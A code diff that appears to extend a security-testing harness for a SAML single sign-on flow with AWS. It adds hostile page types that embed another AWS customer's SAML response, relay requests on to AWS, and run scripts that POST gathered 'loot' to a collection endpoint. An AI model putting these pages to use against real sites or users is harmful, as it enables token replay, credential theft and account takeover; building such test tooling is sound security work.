@@ -6,6 +6,10 @@ export type Attack =
   | { readonly kind: 'page'; readonly html: string }
   /** A page with a sound answer of the company in it, which it may post where it likes. */
   | { readonly kind: 'page-with-answer'; html(samlResponse: string): string }
+  /** A page with a sound answer of another customer of AWS. */
+  | { readonly kind: 'page-with-strange-answer'; html(samlResponse: string): string }
+  /** Sends what it is sent on to AWS. */
+  | { readonly kind: 'pass-on'; readonly to: string }
   | { readonly kind: 'redirect'; readonly to: string }
   | { readonly kind: 'script'; readonly text: string }
   /** A program that the browser is to save. */
@@ -44,6 +48,13 @@ const telling = (script: Html): Html => html`(async () => {
     await fetch(location.pathname + '/loot', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(loot) });
     ${GO_ON}
   })();`;
+
+/** A page with an answer of another customer of AWS in `answer`, and a script. */
+export const strange = (title: string, script: Html): Attack => ({
+  kind: 'page-with-strange-answer',
+  html: samlResponse =>
+    page(title, html`<h1>${title}</h1><script>const answer = '${samlResponse}';\n${script}</script>`),
+});
 
 /** A page whose script reaches for things by `take(name, run)`, and tells what it got. */
 export const raid = (title: string, script: Html): Attack => attack(title, telling(script));
